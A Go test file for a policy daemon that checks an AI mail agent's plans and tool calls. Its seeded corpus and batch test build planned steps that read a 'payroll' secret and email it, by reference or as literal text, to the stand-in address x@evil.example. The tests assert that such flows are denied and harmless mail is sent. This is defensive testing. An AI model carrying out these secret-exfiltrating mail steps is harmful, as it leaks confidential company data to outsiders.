package main

import (
	"encoding/json"
	"fmt"
	"math/rand/v2"
	"net/http"
	"strings"
	"testing"
)

// flowCase is one request of the exfiltration corpus: whether and when it reads a
// secret (or fetches a page), and the mail it then sends.
type flowCase struct {
	read       string // "", "read_secret" or "fetch_url": step-1 of phase 1
	mailPhase  int    // 1: beside the read, 2: in the next phase
	dependent  bool   // the mail depends on step-1 (same phase) or lists it in implicit_deps
	byRef      bool   // the mail's body is {{step-1.response.value}}
	literal    bool   // the body holds the secret's text (a later phase that saw it)
	internal   bool   // the mail goes to @acme.example
	otherAfter bool   // the mail is another request's, sent after this one's read
}

// leaks says whether the mail, if sent, could carry the secret out of the company:
// the ground truth the corpus scores against.
func (c flowCase) leaks() bool {
	if c.read != "read_secret" || c.internal || c.otherAfter {
		return false
	}
	// A phase-1 mail without a dependency was fixed before the secret existed; a
	// later phase was planned by a model that had seen it.
	return c.mailPhase == 2 || c.dependent || c.byRef
}

func (c flowCase) String() string {
	b, _ := json.Marshal(map[string]any{"read": c.read, "phase": c.mailPhase, "dependent": c.dependent, "by_ref": c.byRef,
		"literal": c.literal, "internal": c.internal, "other_request": c.otherAfter})
	return string(b)
}

// flowCorpus is a hold-out corpus drawn with seed: every combination the stage API
// allows, in a random order, with random addresses and bodies.
func flowCorpus(seed uint64, n int) []flowCase {
	r := rand.New(rand.NewPCG(seed, seed^0x5eed))
	var out []flowCase
	for len(out) < n {
		c := flowCase{
			read:       []string{"", "read_secret", "fetch_url"}[r.IntN(3)],
			mailPhase:  1 + r.IntN(2),
			dependent:  r.IntN(2) == 0,
			internal:   r.IntN(3) == 0,
			otherAfter: r.IntN(6) == 0,
		}
		if c.read == "" || c.otherAfter {
			c.dependent = false
		}
		// implicit_deps must be referenced (plan rule 6): a later phase depends by reference
		c.byRef = c.dependent && (c.mailPhase == 2 || r.IntN(2) == 0)
		c.literal = c.read == "read_secret" && c.mailPhase == 2 && !c.byRef && r.IntN(2) == 0
		out = append(out, c)
	}
	return out
}

// flowStep is one plan step of the mail-agent example.
func flowStep(id, capability string, params map[string]any, deps, implicit []string) map[string]any {
	s := map[string]any{"step_id": id, "agent_name": "assistant", "namespace": "office", "instruction": capability,
		"metadata": map[string]any{"capability": capability, "parameters": params}}
	if len(deps) > 0 {
		s["depends_on"] = deps
	}
	if len(implicit) > 0 {
		s["implicit_deps"] = implicit
	}
	return s
}

func mustJSON(t *testing.T, v any) string {
	t.Helper()
	b, err := json.Marshal(v)
	if err != nil {
		t.Fatal(err)
	}
	return string(b)
}

// flowDriver plays an orchestrator over replicas, sending each stage call to the next
// replica in turn.
type flowDriver struct {
	t        *testing.T
	replicas []*daemon
	n        int
}

func (f *flowDriver) post(path string, body any) (int, map[string]any) {
	f.t.Helper()
	d := f.replicas[f.n%len(f.replicas)]
	f.n++
	return d.call(f.t, path, mustJSON(f.t, body))
}

func (f *flowDriver) open(id string) {
	f.t.Helper()
	if status, out := f.post("/v1/hooks/before_planning", map[string]any{"request_id": id, "request": "office chores"}); status != http.StatusOK {
		f.t.Fatalf("before_planning %s: %d %v", id, status, out)
	}
}

// plan runs phase's after_planning and reports whether the review accepted it.
func (f *flowDriver) plan(id string, phase int, steps ...map[string]any) bool {
	f.t.Helper()
	status, out := f.post("/v1/hooks/after_planning", map[string]any{"request_id": id, "phase": phase,
		"plan": map[string]any{"plan_id": fmt.Sprintf("%s-%d", id, phase), "terminal": false, "steps": steps}})
	switch {
	case status == http.StatusOK:
		return true
	case status == http.StatusForbidden && out["error"].(map[string]any)["type"] == "required_after_planning":
		return false
	}
	f.t.Fatalf("after_planning %s phase %d: %d %v", id, phase, status, out)
	return false
}

// check checks the tool call of step as planned and reports whether it is allowed.
func (f *flowDriver) check(id string, step map[string]any) bool {
	f.t.Helper()
	md := step["metadata"].(map[string]any)
	status, out := f.post("/v1/operations/check", map[string]any{"operation": "tool_call", "call": map[string]any{
		"request_id": id, "step_id": step["step_id"], "namespace": "office", "agent_name": "assistant",
		"capability": md["capability"], "parameters": md["parameters"]}})
	switch {
	case status == http.StatusOK && out["allowed"] == true:
		return true
	case status == http.StatusForbidden && out["allowed"] == false:
		return false
	}
	f.t.Fatalf("check %s %s: %d %v", id, step["step_id"], status, out)
	return false
}

func (f *flowDriver) finish(id, step string, response any) {
	f.t.Helper()
	if status, out := f.post("/v1/operations/finish", map[string]any{"request_id": id, "step_id": step, "status": "succeeded", "response": response}); status != http.StatusOK {
		f.t.Fatalf("finish %s %s: %d %v", id, step, status, out)
	}
}

// run plays case c as request id and reports whether its mail was sent.
func (f *flowDriver) run(id string, c flowCase) bool {
	f.t.Helper()
	to := "x@evil.example"
	if c.internal {
		to = "ops@acme.example"
	}
	body := "see you friday"
	switch {
	case c.byRef:
		body = "{{step-1.response.value}}"
	case c.literal:
		body = "the password is hunter2"
	}
	mailID := "step-2"
	var deps, implicit []string
	if c.dependent {
		if c.mailPhase == 1 {
			deps = []string{"step-1"}
		} else {
			implicit = []string{"step-1"}
		}
	}
	mail := flowStep(mailID, "send_email", map[string]any{"to": to, "body": body}, deps, implicit)
	f.open(id)
	var phase1 []map[string]any
	if c.read != "" {
		phase1 = append(phase1, flowStep("step-1", c.read, map[string]any{"name": "payroll"}, nil, nil))
	}
	mailRequest := id
	if c.otherAfter {
		mailRequest = id + "-other"
		mail = flowStep("step-1", "send_email", map[string]any{"to": to, "body": body}, nil, nil)
	} else if c.mailPhase == 1 || c.read == "" {
		phase1 = append(phase1, mail)
	}
	if len(phase1) > 0 && !f.plan(id, 1, phase1...) {
		f.t.Fatalf("%s: phase 1 rejected", c)
	}
	if c.read != "" {
		if !f.check(id, phase1[0]) {
			f.t.Fatalf("%s: the read was denied", c)
		}
		f.finish(id, "step-1", map[string]any{"value": "hunter2", "text": "a page"})
	}
	switch {
	case c.otherAfter:
		f.open(mailRequest)
		if !f.plan(mailRequest, 1, mail) {
			return false
		}
	case c.mailPhase == 2 && c.read != "":
		if !f.plan(id, 2, mail) {
			return false
		}
	}
	return f.check(mailRequest, mail)
}

// TestLabels_ExfiltrationCorpus: a hold-out corpus of requests reading a secret (or a
// page, or nothing) and then mailing, over the stage API of one daemon and of two
// replicas on one Redis whose stage calls alternate: no mail that could carry the
// secret out of the company is sent (0 leaks), and every other is (0 false denials).
func TestLabels_ExfiltrationCorpus(t *testing.T) {
	config := copyExample(t, "mail-agent")
	for _, setup := range []struct {
		name     string
		replicas func(t *testing.T) []*daemon
	}{
		{"one daemon", func(t *testing.T) []*daemon { return []*daemon{startDaemon(t, config)} }},
		{"two replicas on Redis", func(t *testing.T) []*daemon { return startReplicas(t, config, sharedRedis(t), 2) }},
	} {
		t.Run(setup.name, func(t *testing.T) {
			f := &flowDriver{t: t, replicas: setup.replicas(t)}
			leaks, falseDenials, blocked, sent := 0, 0, 0, 0
			for i, c := range flowCorpus(38, 200) {
				sentMail := f.run(fmt.Sprintf("flow-%d", i), c)
				switch {
				case sentMail && c.leaks():
					leaks++
					t.Errorf("leak: %s", c)
				case !sentMail && !c.leaks():
					falseDenials++
					t.Errorf("false denial: %s", c)
				case sentMail:
					sent++
				default:
					blocked++
				}
			}
			t.Logf("%d requests: %d mails blocked, %d sent, %d leaks, %d false denials", blocked+sent+leaks+falseDenials, blocked, sent, leaks, falseDenials)
			if blocked == 0 || sent == 0 {
				t.Fatalf("the corpus lacks a side: %d blocked, %d sent", blocked, sent)
			}
		})
	}
}

// TestLabels_ParallelBatchesOnlyDenyByReference: in one phase, a secret read beside
// five mails out of the company that do not depend on it denies none of them; the one
// mail the secret flows into is denied.
func TestLabels_ParallelBatchesOnlyDenyByReference(t *testing.T) {
	d := startDaemon(t, copyExample(t, "mail-agent"))
	f := &flowDriver{t: t, replicas: []*daemon{d}}
	f.open("batch")
	steps := []map[string]any{flowStep("step-1", "read_secret", map[string]any{"name": "payroll"}, nil, nil)}
	for i := 2; i <= 6; i++ {
		steps = append(steps, flowStep(fmt.Sprintf("step-%d", i), "send_email", map[string]any{"to": fmt.Sprintf("p%d@example.com", i), "body": "hello"}, nil, nil))
	}
	steps = append(steps, flowStep("step-7", "send_email", map[string]any{"to": "x@evil.example", "body": "{{step-1.response.value}}"}, []string{"step-1"}, nil))
	if !f.plan("batch", 1, steps...) {
		t.Fatal("the batch was rejected")
	}
	if !f.check("batch", steps[0]) {
		t.Fatal("the read was denied")
	}
	f.finish("batch", "step-1", map[string]any{"value": "hunter2"})
	var denied []string
	for _, s := range steps[1:] {
		if !f.check("batch", s) {
			denied = append(denied, s["step_id"].(string))
		}
	}
	if strings.Join(denied, ",") != "step-7" {
		t.Fatalf("denied %v, want only step-7 (the one the secret flows into)", denied)
	}
	// The record shows the labels each result got and those that decided the denial.
	status, body := d.do(t, http.MethodGet, "/v1/executions/batch", "")
	var rec struct {
		Operations []struct {
			StepID     string   `json:"step_id"`
			Outcome    string   `json:"outcome"`
			Labels     []string `json:"labels"`
			CallLabels []string `json:"call_labels"`
			Finish     *struct {
				Labels []string `json:"labels"`
			} `json:"finish"`
		} `json:"operations"`
	}
	if err := json.Unmarshal([]byte(body), &rec); status != http.StatusOK || err != nil {
		t.Fatalf("record: %d %v %s", status, err, body)
	}
	var ops []string
	for _, o := range rec.Operations {
		line := o.StepID + " " + o.Outcome + " " + strings.Join(o.Labels, ",") + "/" + strings.Join(o.CallLabels, ",")
		if o.Finish != nil {
			line += " finish " + strings.Join(o.Finish.Labels, ",")
		}
		ops = append(ops, line)
	}
	if ops[0] != "step-1 allow / finish secret" || ops[1] != "step-2 allow /" || ops[6] != "step-7 deny secret/secret" {
		t.Fatalf("record operations: %q", ops)
	}
}
